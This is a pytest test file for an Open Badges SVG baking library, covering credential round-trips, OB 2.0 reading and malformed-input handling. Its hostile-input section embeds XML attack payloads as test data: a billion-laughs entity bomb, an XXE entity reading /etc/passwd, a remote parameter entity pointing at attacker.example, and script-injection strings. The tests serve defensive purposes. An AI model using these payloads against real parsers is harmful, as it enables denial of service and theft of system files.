"""SVG baking: OB 3.0 element placement, text-preserving edits, OB 2.0 reading, hostile XML."""

from __future__ import annotations

from typing import Any

import defusedxml.ElementTree as SafeET
import pytest

from obv3.baking import bake, bake_svg, extract, unbake, unbake_svg
from obv3.errors import BakingError

OB3_NS = "https://purl.imsglobal.org/ob/v3p0"
OB2_NS = "http://openbadges.org"
SVG_NS = "http://www.w3.org/2000/svg"


def _first_child(svg: bytes) -> Any:
    return next(iter(SafeET.fromstring(svg)))


def test_round_trip_json(svg: bytes, credential: dict[str, Any]) -> None:
    baked = bake_svg(svg, credential)
    assert unbake_svg(baked) == credential
    assert unbake(baked) == credential


def test_round_trip_jws(svg: bytes, jws: str) -> None:
    baked = bake(svg, jws)
    assert unbake(baked) == jws
    element = _first_child(baked)
    assert element.tag == f"{{{OB3_NS}}}credential"
    assert element.get("verify") == jws
    assert (element.text or "") == ""


def test_credential_is_first_child_and_namespace_declared(
    svg: bytes, credential: dict[str, Any]
) -> None:
    baked = bake_svg(svg, credential)
    assert f'xmlns:openbadges="{OB3_NS}"'.encode() in baked
    root = SafeET.fromstring(baked)
    assert root.tag == f"{{{SVG_NS}}}svg"
    assert _first_child(baked).tag == f"{{{OB3_NS}}}credential"
    assert b"<![CDATA[" in baked


def test_rest_of_the_artwork_is_untouched(svg: bytes, jws: str) -> None:
    baked = bake_svg(svg, jws)
    head, _, body = svg.partition(b'data-note="a &gt; b">')
    assert baked.startswith(head)
    assert baked.endswith(body)
    original = SafeET.fromstring(svg)
    again = SafeET.fromstring(baked)
    assert [(e.tag, e.attrib, e.text) for e in original.iter()][1:] == [
        (e.tag, e.attrib, e.text) for e in again.iter()
    ][2:]


def test_rebake_replaces(svg: bytes, credential: dict[str, Any], jws: str) -> None:
    once = bake_svg(svg, jws)
    twice = bake_svg(bake_svg(once, credential), jws)
    assert twice == once
    assert twice.count(b"openbadges:credential") == 2  # one open, one close tag


def test_rebake_over_ob2_assertion(jws: str) -> None:
    ob2 = (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org">'
        b'<g><openbadges:assertion verify="https://example.org/a/1"><![CDATA[{"a": 1}]]>'
        b"</openbadges:assertion></g><rect/></svg>"
    )
    baked = bake_svg(ob2, jws)
    assert unbake_svg(baked) == jws
    assert b"openbadges.org" not in baked
    assert b"<g></g><rect/>" in baked


def test_cdata_terminator_inside_the_credential(svg: bytes) -> None:
    tricky = {"name": "a ]]> b ]]]]> <script>alert(1)</script> & é 你好 \u202e"}
    baked = bake_svg(svg, tricky)
    assert unbake_svg(baked) == tricky
    assert b"<script>" not in baked.split(b"<![CDATA[")[0]


def test_json_text_credential_is_accepted(svg: bytes) -> None:
    assert unbake_svg(bake_svg(svg, ' {"id": "urn:x"} ')) == {"id": "urn:x"}


@pytest.mark.parametrize(
    "image",
    [
        b'<svg xmlns="http://www.w3.org/2000/svg"/>',
        b"<svg xmlns='http://www.w3.org/2000/svg' \n />",
        b'\xef\xbb\xbf<svg xmlns="http://www.w3.org/2000/svg" title="x>y"></svg>',
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org"></svg>',
        b'<svg xmlns="http://www.w3.org/2000/svg"><openbadges:credential '
        b'xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0" verify="a.b.c"/></svg>',
        b'<?xml version="1.0" encoding="utf-8"?><svg xmlns="http://www.w3.org/2000/svg"><t/></svg>',
        b"<svg><circle/></svg>",
    ],
    ids=["self-closing", "self-closing-space", "bom", "ob2-ns", "empty-ob3", "decl", "no-ns"],
)
def test_unusual_but_valid_svgs(image: bytes, jws: str, credential: dict[str, Any]) -> None:
    assert unbake_svg(bake_svg(image, jws)) == jws
    assert unbake_svg(bake_svg(image, credential)) == credential


@pytest.mark.parametrize(
    ("element", "expected"),
    [
        (
            b'<openbadges:assertion verify="https://example.org/a/1"><![CDATA[{"id": "x"}]]>'
            b"</openbadges:assertion>",
            {"id": "x"},
        ),
        (b'<openbadges:assertion verify="aaa.bbb.ccc"></openbadges:assertion>', "aaa.bbb.ccc"),
        (b'<openbadges:assertion verify="https://example.org/a/2"/>', "https://example.org/a/2"),
    ],
    ids=["hosted-json", "signed-jws", "url-only"],
)
def test_reads_ob2_baked_svgs(element: bytes, expected: object) -> None:
    image = (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org">'
        + element
        + b"<circle/></svg>"
    )
    found = extract(image)
    assert (found.payload, found.image_format, found.ob_version) == (expected, "svg", "2.0")


def test_extract_reports_ob3(svg: bytes, jws: str) -> None:
    assert extract(bake_svg(svg, jws)).ob_version == "3.0"


# --- hostile and broken input ---------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE svg [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">
<openbadges:credential>&lol9;</openbadges:credential></svg>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">
<openbadges:credential>&xxe;</openbadges:credential></svg>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns="http://www.w3.org/2000/svg"><circle/></svg>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<svg xmlns="http://www.w3.org/2000/svg"/>"""


@pytest.mark.parametrize(
    "image",
    [BILLION_LAUGHS, XXE, PARAMETER_ENTITY],
    ids=["billion-laughs", "xxe", "parameter-entity"],
)
def test_dtds_and_entities_are_refused(image: bytes, jws: str) -> None:
    with pytest.raises(BakingError, match=r"DTD|entit"):
        unbake_svg(image)
    with pytest.raises(BakingError, match=r"DTD|entit"):
        bake_svg(image, jws)


def test_editor_doctype_is_accepted_and_kept(jws: str) -> None:
    """Inkscape/Illustrator exports and the 1EdTech samples start with the SVG 1.1 DOCTYPE."""
    baked = bake_svg(EXTERNAL_DTD, jws)
    assert unbake_svg(baked) == jws
    assert baked.startswith(EXTERNAL_DTD.split(b"<svg")[0])


def test_huge_cdata_is_capped() -> None:
    huge = (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="' + OB3_NS.encode() + b'">'
        b"<openbadges:credential><![CDATA[" + b"x" * (17 * 1024 * 1024) + b"]]>"
        b"</openbadges:credential></svg>"
    )
    with pytest.raises(BakingError, match="16777216-byte limit"):
        unbake(huge)
    with pytest.raises(BakingError, match="limit"):
        unbake_svg(huge[:2000] + b"]]></openbadges:credential></svg>", max_bytes=1000)


@pytest.mark.parametrize(
    ("image", "message"),
    [
        (b'<svg xmlns="http://www.w3.org/2000/svg"><text>caf\xe9</text></svg>', "UTF-8"),
        (b'<?xml version="1.0" encoding="ISO-8859-1"?><svg/>', "UTF-8"),
        (b'<svg xmlns="http://www.w3.org/2000/svg"><g></svg>', "well-formed"),
        (b"<html><body/></html>", "not an SVG"),
        (b"<svg", "well-formed"),
        (b"<svg/><svg/>", "well-formed"),
    ],
)
def test_broken_svgs(image: bytes, message: str, jws: str) -> None:
    with pytest.raises(BakingError, match=message):
        unbake_svg(image)
    with pytest.raises(BakingError, match=message):
        bake_svg(image, jws)


def _with(element: bytes) -> bytes:
    return (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="' + OB3_NS.encode() + b'"'
        b' xmlns:ob2="' + OB2_NS.encode() + b'">' + element + b"</svg>"
    )


@pytest.mark.parametrize(
    ("element", "message"),
    [
        (b"", "no baked credential"),
        (b"<openbadges:credential/>", "empty"),
        (b"<openbadges:credential><![CDATA[{bad json]]></openbadges:credential>", "invalid"),
        (b"<openbadges:credential>[1]</openbadges:credential>", "neither"),
        (
            b'<openbadges:credential verify="a.b.c"/><openbadges:credential verify="d.e.f"/>',
            "ambiguous",
        ),
        (
            b'<openbadges:credential verify="a.b.c"/><g><ob2:assertion verify="x.y.z"/></g>',
            "ambiguous",
        ),
        (b'<openbadges:credential verify="javascript:alert(1)"/>', "neither"),
    ],
    ids=["none", "empty", "bad-json", "array", "two-ob3", "ob3-and-ob2", "js-url"],
)
def test_bad_credential_elements(element: bytes, message: str) -> None:
    with pytest.raises(BakingError, match=message):
        unbake_svg(_with(element))


def test_baking_repairs_duplicates(jws: str) -> None:
    dup = _with(b'<openbadges:credential verify="a.b.c"/><openbadges:credential verify="d.e.f"/>')
    assert unbake_svg(bake_svg(dup, jws)) == jws


def test_characters_xml_cannot_carry_survive(svg: bytes, png: bytes) -> None:
    odd = {"k\ufffe": "lone \ud800 surrogate, \x01 control, \uffff noncharacter, \U0001f3c5"}
    for image in (svg, png):
        assert unbake(bake(image, odd)) == odd
